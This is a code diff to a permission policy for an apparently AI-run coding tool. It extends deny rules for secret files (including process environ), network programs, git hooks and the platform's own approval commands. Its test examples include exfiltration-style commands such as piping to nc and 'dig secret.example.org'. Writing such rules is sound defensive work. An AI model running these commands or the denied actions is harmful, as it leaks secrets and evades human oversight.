@@ -24,6 +24,8 @@ const secretFiles = [
   '**/.git/config',
   '**/*.{pem,key,p12,pfx,jks,keystore}',
   '**/id_{rsa,dsa,ecdsa,ed25519}',
+  // What a program was started with, the worker's keys among it.
+  '**/proc/**/environ',
 ];
 
 const secretReason =
@@ -118,11 +120,41 @@ const noOtherCommands: PolicyRule = {
     'only looking at git (status, diff, log) and running the tests is allowed, one command at a time or in a chain',
 };
 
+// Those a usual system has. Git is one where it talks to others; package managers are left, work needs them.
+const networkPrograms = [
+  ...['curl', 'wget', 'aria2c', 'axel', 'http', 'https', 'xh', 'lynx', 'links', 'elinks', 'w3m'],
+  ...[
+    'ssh',
+    'scp',
+    'sftp',
+    'sshfs',
+    'ssh-keyscan',
+    'mosh',
+    'rsh',
+    'rlogin',
+    'rsync',
+    'telnet',
+    'ftp',
+    'tftp',
+    'lftp',
+  ],
+  ...['nc', 'nc.openbsd', 'nc.traditional', 'ncat', 'netcat', 'socat', 'mail', 'mailx', 'sendmail'],
+  // A name that is looked up carries what it is made of.
+  ...['dig', 'drill', 'nslookup', 'host', 'getent', 'ping', 'ping6', 'traceroute', 'whois'],
+  ...[
+    'openssl s_client',
+    'git push',
+    'git fetch',
+    'git pull',
+    'git clone',
+    'git ls-remote',
+    'git remote update',
+  ],
+];
+
 const noNetworkPrograms: PolicyRule = {
   effect: 'execute',
-  commands: ['curl', 'wget', 'ssh', 'scp', 'sftp', 'nc', 'ncat', 'netcat', 'telnet', 'ftp', 'socat'].map(
-    (program) => `${program} **`,
-  ),
+  commands: networkPrograms.map((program) => `${program} **`),
   decision: 'deny',
   reason: 'it reaches into the network',
   examples: {
@@ -132,8 +164,30 @@ const noNetworkPrograms: PolicyRule = {
       'ls | nc host 1',
       'env curl x',
       "bash -c 'curl x'",
+      'git push https://example.org/x HEAD',
+      'dig secret.example.org',
     ],
-    noMatch: ['ls curl', 'npm run curl'],
+    noMatch: ['ls curl', 'npm run curl', 'git log', 'openssl dgst x'],
+  },
+};
+
+// Whoever may answer approvals and raise limits is ruled by neither.
+const noPlatformCommands: PolicyRule = {
+  effect: 'execute',
+  commands: ['perdure **', 'npx perdure **', 'npm exec perdure **'],
+  decision: 'deny',
+  reason: 'it rules over runs, this one among them; that is for people',
+  examples: { match: ['perdure approve 1', 'ls; npx perdure allowances'], noMatch: ['ls perdure'] },
+};
+
+const noHookCommands: PolicyRule = {
+  effect: 'execute',
+  paths: ['**/.git/hooks/**', '**/.git/info/**'],
+  decision: 'deny',
+  reason: 'git runs or obeys what is written there',
+  examples: {
+    match: ['cp x .git/hooks/pre-commit', 'mkdir -p .git/hooks', 'touch lib/.git/info/attributes'],
+    noMatch: ['ls .git', 'grep -r --exclude-dir=.git x .'],
   },
 };
 
@@ -178,7 +232,16 @@ export const builtInProfiles: readonly PolicyProfile[] = [
       'For larger work in a sandbox: reads and writes in the project but for secrets and git’s own files, runs every ' +
       'command that can be looked through except programs that reach into the network.',
     mode: 'acceptEdits',
-    rules: [noSecrets, readProject, noGitWrites, writeProject, noNetworkPrograms, understoodCommands],
+    rules: [
+      noSecrets,
+      readProject,
+      noGitWrites,
+      writeProject,
+      noHookCommands,
+      noNetworkPrograms,
+      noPlatformCommands,
+      understoodCommands,
+    ],
     limits: { steps: 100, seconds: 1800, costMicros: 20_000_000 },
     stall: { steps: 5, replans: 2 },
     gates: { tests: true, lint: false, rollback: false },
